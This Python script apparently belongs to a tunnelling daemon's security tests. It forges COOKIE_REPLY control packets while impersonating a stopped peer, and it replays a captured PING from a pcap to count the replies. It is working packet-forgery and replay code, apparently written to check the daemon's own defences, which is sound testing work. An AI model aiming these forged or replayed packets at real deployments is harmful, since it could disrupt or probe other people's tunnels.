#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""What a member or an on-path observer can make shoald send with
control packets it saw (docs/protocol.md, version 2).

    forge_replies.py cookie --listen ADDR:PORT --pub B64 --elsewhere ADDR
        Stands where a stopped peer's shoald was (ADDR:PORT), waits for an
        INIT from the other shoald, and answers it with a COOKIE_REPLY
        sealed under the stopped peer's cookie key (its public key B64 is
        all that takes): first from a socket at ELSEWHERE, then from
        ADDR:PORT itself.  Prints "elsewhere N here M": INITs the reply
        from elsewhere drew to elsewhere, and INITs carrying MAC2 that the
        reply from ADDR:PORT drew there.
    forge_replies.py ping --pcap FILE --to ADDR:PORT --from ADDR [--count N]
        Replays the first PING in FILE (a pcap of the underlay) N times
        (100) from a socket at ADDR and prints "replayed N pongs M".

The COOKIE_REPLY is sealed with libsodium through ctypes: Python's
standard library has no XChaCha20-Poly1305.
"""
import argparse
import base64
import ctypes
import ctypes.util
import hashlib
import os
import socket
import struct
import sys
import time

MARKER = b"\0\0\0\0"
INIT_LEN, MAC1_OFF, MAC2_OFF = 152, 120, 136


def hostport(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


def seal_cookie_reply(init, pub):
    """A COOKIE_REPLY to init (the control packet, no marker)."""
    sodium = ctypes.CDLL(ctypes.util.find_library("sodium") or
                         "libsodium.so.23")
    if sodium.sodium_init() < 0:
        sys.exit("sodium_init failed")
    key = hashlib.blake2b(b"shoal cookie v2" + pub, digest_size=32).digest()
    nonce = os.urandom(24)
    cookie = os.urandom(16)
    out = ctypes.create_string_buffer(32)
    outlen = ctypes.c_ulonglong(0)
    aad = init[MAC1_OFF:MAC1_OFF + 16]
    if sodium.crypto_aead_xchacha20poly1305_ietf_encrypt(
            out, ctypes.byref(outlen), cookie, ctypes.c_ulonglong(16),
            aad, ctypes.c_ulonglong(16), None, nonce, key) != 0:
        sys.exit("seal failed")
    return bytes([6, 2, 0, 0]) + init[4:8] + nonce + out.raw[:outlen.value]


def recv_inits(sock, seconds, first=False):
    """(INIT, source) pairs arriving at sock within seconds (or the
    first)."""
    inits, end = [], time.monotonic() + seconds
    while True:
        left = end - time.monotonic()
        if left <= 0:
            return inits
        sock.settimeout(left)
        try:
            data, src = sock.recvfrom(2048)
        except socket.timeout:
            return inits
        if data[:4] == MARKER and len(data) == 4 + INIT_LEN and \
                data[4] == 1:
            inits.append((data[4:], src))
            if first:
                return inits


def cookie(args):
    pub = base64.b64decode(args.pub)
    here = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    here.bind(hostport(args.listen))
    other = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    other.bind((args.elsewhere, 0))
    got = recv_inits(here, 40, first=True)
    if not got:
        sys.exit("no INIT arrived in 40 s")
    # Its handshake is in progress for 3 s: answer at once.
    init, initiator = got[0]
    other.sendto(MARKER + seal_cookie_reply(init, pub), initiator)
    elsewhere = len(recv_inits(other, 1.0))
    here.sendto(MARKER + seal_cookie_reply(init, pub), initiator)
    # The same INIT again, now with MAC2 (not zero).
    again = recv_inits(here, 1.0)
    with_mac2 = [i for i, _ in again
                 if i[:MAC2_OFF] == init[:MAC2_OFF] and any(i[MAC2_OFF:])]
    print("elsewhere %d here %d" % (elsewhere, len(with_mac2)))


def ping(args):
    data = open(args.pcap, "rb").read()
    endian = "<" if data[:4] == b"\xd4\xc3\xb2\xa1" else ">"
    pos, found = 24, None
    while pos + 16 <= len(data) and not found:
        incl = struct.unpack(endian + "IIII", data[pos:pos + 16])[2]
        frame = data[pos + 16:pos + 16 + incl]
        pos += 16 + incl
        if len(frame) < 14 + 20 + 8 or frame[12:14] != b"\x08\x00":
            continue
        payload = frame[14 + (frame[14] & 15) * 4 + 8:]
        if payload[:5] == MARKER + b"\x04" and len(payload) == 36:
            found = payload
    if not found:
        sys.exit("no PING in " + args.pcap)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((getattr(args, "from"), 0))
    for _ in range(args.count):
        s.sendto(found, hostport(args.to))
    pongs, end = 0, time.monotonic() + 1.5
    while time.monotonic() < end:
        s.settimeout(max(end - time.monotonic(), 0.01))
        try:
            reply, _ = s.recvfrom(2048)
        except socket.timeout:
            break
        if reply[:5] == MARKER + b"\x05":
            pongs += 1
    print("replayed %d pongs %d" % (args.count, pongs))


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="mode", required=True)
    c = sub.add_parser("cookie")
    c.add_argument("--listen", required=True)
    c.add_argument("--pub", required=True)
    c.add_argument("--elsewhere", required=True)
    p = sub.add_parser("ping")
    p.add_argument("--pcap", required=True)
    p.add_argument("--to", required=True)
    p.add_argument("--from", required=True)
    p.add_argument("--count", type=int, default=100)
    args = ap.parse_args()
    cookie(args) if args.mode == "cookie" else ping(args)


if __name__ == "__main__":
    main()
